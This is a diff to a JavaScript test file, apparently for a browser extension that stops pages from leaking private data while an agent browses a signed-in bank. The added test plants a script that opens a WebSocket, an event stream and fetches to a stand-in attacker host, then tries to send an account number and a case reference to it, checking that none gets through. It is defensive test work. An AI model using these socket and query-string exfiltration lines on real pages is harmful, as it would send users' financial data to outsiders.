@@ -1,4 +1,5 @@
-// A socket that a page opens with its first script, before it is known who is here: it fails as sockets do, and the page tries again.
+// Sockets and streams of events that a page opens with its first script, before it is known who is here, to its own site or
+// another: to the page they are connecting until they are judged.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { playwrightHands } from '../agents/playwright.mjs';
@@ -11,6 +12,9 @@ import { HOSTS } from '../sites/world.mjs';
 import { extension } from './with-guard.mjs';
 
 const CHAT = 'chat.example';
+const APP = 'app.example';
+/** The reference that only this page shows. */
+const OWN = '7735 2201 9946';
 /** `at`: where to, from the page's own address. */
 const TALK = `<script>
   const at = decodeURIComponent(location.search.slice(4));
@@ -22,6 +26,65 @@ const TALK = `<script>
   open();
   document.documentElement.dataset.begun = 'yes';
 </script>`;
+
+/** Nothing here tries again. */
+const CONNECTS = `<script>
+  const said = (word) => { document.documentElement.dataset.said = [document.documentElement.dataset.said, word].join(' '); };
+  const socket = new WebSocket('ws://${HOSTS.attacker}/gate');
+  said(socket instanceof WebSocket && socket.readyState === WebSocket.CONNECTING && socket.url);
+  socket.onopen = () => { said('opened'); socket.send('hello'); };
+  const events = new EventSource('http://${HOSTS.attacker}/events');
+  said(events instanceof EventSource);
+  for (const n of [1, 2, 3])
+    fetch('http://${HOSTS.attacker}/part' + n, { mode: 'no-cors' }).then(() => said('got-' + n), () => said('failed'));
+  events.addEventListener('message', ({ data }) => { said('heard-' + data); events.close(); });
+</script>`;
+
+test('a signed-in page has its socket and its events elsewhere, first used after a private read; nothing private leaves by them', {
+  timeout: 90_000,
+}, async () => {
+  const app = () =>
+    page({
+      title: 'App',
+      name: 'App',
+      head: raw(CONNECTS),
+      body: raw(`<a href="/out">Sign out</a><p>Case ${OWN}</p>`),
+    });
+  const sites = await startSites({ extra: { [APP]: app } });
+  const hands = await playwrightHands({ extension, args: flagsFor(sites, [APP]) });
+  const problems = [];
+  hands.page.on('pageerror', (error) => problems.push(error.message));
+  const sent = () => sites.collector.records.map(({ body }) => body);
+  try {
+    const scene = sceneOf(hands, sites);
+    await signInToBank(hands, scene.world);
+    await readBalance(hands, scene.memory);
+    for (let time = 0; time < 4; time += 1) {
+      sites.collector.records.length = 0;
+      await hands.goto('about:blank');
+      await hands.goto(`http://${APP}/`);
+      await until(async () => sent().includes('hello'), 'what it says first', 10_000);
+      const said = () => hands.run('document.documentElement.dataset.said');
+      const all = ['opened', 'heard-ok', 'got-1', 'got-2', 'got-3'];
+      const isDone = (words) => all.every((word) => words.includes(word));
+      await until(async () => isDone(await said()), 'all', 10_000);
+      assert.match(await said(), /^ ws:\/\/\S+\/gate true/);
+      assert.deepEqual(problems, []);
+    }
+    const { 'account number': account } = SECRETS;
+    for (const text of [account, OWN, OWN.replaceAll(' ', ''), btoa(account)])
+      await hands.run(`socket.send(${JSON.stringify(`note ${text}`)})`);
+    await hands.run(`new EventSource('http://${HOSTS.attacker}/events?d=${encodeURIComponent(account)}'); 0`);
+    await hands.run("socket.send('bye')");
+    await until(async () => sent().includes('bye'), 'what it says last', 10_000);
+    await hands.wait(1_500);
+    assert.deepEqual(leaked(sites.collector.records, { ...SECRETS, case: OWN }), []);
+    assert.equal(sent().filter((body) => body?.startsWith('note')).length, 0);
+  } finally {
+    await hands.close();
+    await sites.close();
+  }
+});
 
 test('a page opens a socket with its first script after a private read, and goes on; what was read leaves by none', {
   timeout: 90_000,
